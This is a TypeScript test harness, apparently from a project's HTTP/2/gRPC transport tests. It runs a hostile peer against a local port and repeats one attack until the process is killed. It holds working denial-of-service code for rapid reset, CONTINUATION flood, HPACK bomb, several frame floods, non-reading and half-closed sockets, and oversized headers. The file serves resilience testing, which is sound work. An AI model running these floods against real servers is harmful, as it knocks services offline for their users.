// node hostile-peer.ts ATTACK PORT: attacks until it is killed; a connection that is cut is opened again.
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Flag, FrameType } from '../../src/transport/http2/frames/protocol-constants.ts';
import { encodeHeaders } from '../../src/transport/http2/hpack/header-encoder.ts';
import {
  callFrames,
  dataFrame,
  encodeUint32,
  frame,
  grpcMessage,
  headersFrame,
  preface,
  requestHeaders,
  resetFrame,
} from './frame-builders.ts';

const BURST = 500;

function repeat(make: () => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: BURST }, make));
}

/** Made once: the attacker's own work must not be what slows the others on a small machine. */
function always(bytes: Uint8Array): () => Uint8Array {
  const burst = repeat(() => bytes);
  return () => burst;
}

function oddIds(): () => number {
  let id = -1;
  return () => {
    id += 2;
    return id;
  };
}

/** Indexes one field of almost the whole table, then a block that names it thousands of times. */
function bomb(): (nextId: () => number) => Buffer {
  const name = Buffer.from('x-bomb');
  const size = Buffer.from([0x7f, 0x80 + ((3900 - 127) & 0x7f), (3900 - 127) >> 7]);
  const insert = Buffer.concat([Buffer.from([0x40, name.length]), name, size, Buffer.alloc(3900, 'a')]);
  const inserting = Buffer.concat([requestHeaders(), insert]);
  const exploding = Buffer.concat([requestHeaders(), Buffer.alloc(16_000, 0xbe)]);
  return (nextId) =>
    Buffer.concat([callFrames(nextId(), undefined, inserting), callFrames(nextId(), undefined, exploding)]);
}

interface Attack {
  /** What is sent over and over; ids go on. */
  readonly send: (nextId: () => number) => Uint8Array;
  readonly reads?: boolean;
  readonly first?: Uint8Array;
  readonly halfCloses?: boolean;
}

const pieceOfMessage = grpcMessage(Buffer.alloc(1_000_000)).subarray(0, 16_000);
const hugeValue = encodeHeaders([['x-huge', 'a'.repeat(15_000)]]);

export const ATTACKS: Record<string, Attack> = {
  'rapid reset': {
    send: (nextId) =>
      repeat(() => {
        const id = nextId();
        return Buffer.concat([callFrames(id), resetFrame(id)]);
      }),
  },
  'CONTINUATION flood': {
    first: frame(FrameType.HEADERS, 0, 1, requestHeaders()),
    send: always(frame(FrameType.CONTINUATION, 0, 1, Buffer.alloc(100))),
  },
  'HPACK bomb': { send: bomb() },
  'SETTINGS flood': { send: always(frame(FrameType.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))) },
  'PING flood': { send: always(frame(FrameType.PING, 0, 0, Buffer.alloc(8))) },
  'PING flood without reading': {
    send: always(frame(FrameType.PING, 0, 0, Buffer.alloc(8))),
    reads: false,
  },
  'empty DATA flood': { first: headersFrame(1), send: always(dataFrame(1, Buffer.alloc(0), 0)) },
  'one-byte DATA flood': {
    first: Buffer.concat([headersFrame(1), dataFrame(1, grpcMessage(Buffer.alloc(1_000_000)).subarray(0, 5), 0)]),
    send: always(dataFrame(1, Buffer.alloc(1), 0)),
  },
  'PRIORITY flood': { send: always(frame(FrameType.PRIORITY, 0, 1, Buffer.alloc(5))) },
  'WINDOW_UPDATE flood': {
    first: headersFrame(1),
    send: always(frame(FrameType.WINDOW_UPDATE, 0, 1, encodeUint32(1))),
  },
  'a reader that never reads': { send: (nextId) => repeat(() => callFrames(nextId())), reads: false },
  'half-closed sockets': { send: (nextId) => repeat(() => headersFrame(nextId())), halfCloses: true },
  'giant header lists': {
    send: (nextId) =>
      Buffer.concat([
        frame(FrameType.HEADERS, Flag.END_STREAM, nextId(), Buffer.concat([requestHeaders(), hugeValue])),
      ]),
  },
  'malformed requests': {
    send: (nextId) => repeat(() => headersFrame(nextId(), encodeHeaders([['x', '1']]), Flag.END_STREAM)),
  },
  'messages that never come whole': {
    send: (nextId) => {
      const id = nextId();
      return Buffer.concat([headersFrame(id), dataFrame(id, pieceOfMessage, 0)]);
    },
  },
};

function write(socket: Socket, bytes: Uint8Array): Promise<void> {
  return new Promise((resolve) => {
    if (socket.destroyed) resolve();
    else socket.write(bytes, () => resolve());
  });
}

async function attackOnce(attack: Attack, port: number): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1', noDelay: true, allowHalfOpen: true });
  socket.on('error', () => {});
  if (attack.reads !== false) socket.resume();
  const nextId = oddIds();
  await write(socket, preface);
  if (attack.first !== undefined) {
    nextId();
    await write(socket, attack.first);
  }
  if (attack.halfCloses) {
    socket.end(attack.send(nextId));
    await sleep(10);
    return;
  }
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.once('end', () => socket.destroy());
  while (!socket.destroyed) await Promise.race([write(socket, attack.send(nextId)), closed]);
}

const [name = '', port] = process.argv.slice(2);
const attack = ATTACKS[name];
if (attack !== undefined)
  for (;;) {
    await attackOnce(attack, Number(port));
    await sleep(100);
  }
